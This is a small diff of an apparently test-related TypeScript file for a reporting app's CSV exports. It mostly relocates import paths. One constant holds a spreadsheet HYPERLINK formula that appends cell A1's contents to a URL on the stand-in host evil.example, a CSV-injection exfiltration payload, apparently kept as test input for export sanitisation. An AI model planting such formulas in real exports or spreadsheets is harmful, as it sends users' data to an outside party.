@@ -1,10 +1,10 @@
-import { earningsCsvQuerySchema } from '@astaguide/contracts/earnings';
-import { reportDimensions } from '@astaguide/contracts/report-dimension';
-import { leftOutCsvQuerySchema } from '@astaguide/contracts/left-out-report';
-import { funnelDimensions } from '@astaguide/contracts/visit-funnel';
+import { earningsCsvQuerySchema } from '@astaguide/contracts/earnings/earnings';
+import { reportDimensions } from '@astaguide/contracts/report/report-dimension';
+import { leftOutCsvQuerySchema } from '@astaguide/contracts/analytics/left-out-report';
+import { funnelDimensions } from '@astaguide/contracts/report/visit-funnel';
 import type { Site } from '../../running-site';
 import { ApiClient, until } from '../api-client';
-import { PRODUCT } from '../owner-input';
+import { PRODUCT } from '../content/owner-input';
 import { siteForTests } from '../site-for-tests';
 
 const FORMULA = `=HYPERLINK("https://evil.example/?"&A1,"open")`;
